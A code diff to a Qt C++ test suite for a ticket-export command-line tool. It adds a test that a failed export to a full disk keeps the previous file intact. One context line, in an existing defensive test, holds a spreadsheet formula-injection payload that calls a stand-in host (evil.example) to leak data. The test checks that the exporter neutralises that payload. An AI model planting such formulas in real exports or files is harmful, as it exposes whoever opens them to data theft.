@@ -5,9 +5,11 @@
 #include "core/localizedtext.h"
 #include "store/ticketstore.h"
 #include "support/clirun.h"
+#include "support/filesizelimit.h"
 #include "support/manualclock.h"
 
 #include <QCoreApplication>
+#include <QDir>
 #include <QFile>
 #include <QJsonArray>
 #include <QJsonDocument>
@@ -107,6 +109,8 @@ private Q_SLOTS:
     void exportFiles_data();
     void exportFiles();
     void exportNeutralisesFormulas();
+    void exportToAFullDiskKeepsTheOldFile_data();
+    void exportToAFullDiskKeepsTheOldFile();
     void unopenableDatabase_data();
     void unopenableDatabase();
     void customersList();
@@ -734,6 +738,46 @@ void TestCommandLine::exportNeutralisesFormulas()
             QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@").contains(cell.front()), qPrintable(cell));
     }
     QVERIFY(content.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"x\"\")\""));
+}
+
+void TestCommandLine::exportToAFullDiskKeepsTheOldFile_data()
+{
+    QTest::addColumn<QString>("fileName");
+    QTest::newRow("csv") << QStringLiteral("out.csv");
+    QTest::newRow("json") << QStringLiteral("out.json");
+}
+
+void TestCommandLine::exportToAFullDiskKeepsTheOldFile()
+{
+    // It said "Exported 4 tickets", exited 0 and left an empty file where the good one was:
+    // the last bytes, still in the device's buffer, failed to reach the disk unnoticed.
+    QFETCH(QString, fileName);
+    seed();
+    const QString path = m_dir->filePath(fileName);
+    QCOMPARE(run({QStringLiteral("export"), path, QStringLiteral("--db"), db()}).code, 0);
+    const auto contentOf = [&path] {
+        QFile file(path);
+        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
+    };
+    const QByteArray good = contentOf();
+    QVERIFY(good.size() > 400);
+
+    // Held open here, the database's shared memory needs no growing: the export only reads.
+    const SystemClock clock;
+    TicketStore holder(clock);
+    QVERIFY(holder.open(db()).ok());
+    Run r;
+    {
+        const Test::FileSizeLimit limit(400);
+        QVERIFY(limit.ok());
+        r = run({QStringLiteral("export"), path, QStringLiteral("--db"), db()});
+    }
+    QCOMPARE(r.code, 1);
+    QVERIFY2(r.err.contains(QStringLiteral("cannot write ") + QDir::toNativeSeparators(path)), qPrintable(r.err));
+    QVERIFY2(!r.out.contains(QStringLiteral("Exported")), qPrintable(r.out));
+    QCOMPARE(contentOf(), good);
+    QCOMPARE(QDir(m_dir->path()).entryList({fileName + QLatin1Char('*')}, QDir::Files | QDir::Hidden),
+             QStringList{fileName});
 }
 
 void TestCommandLine::unopenableDatabase_data()
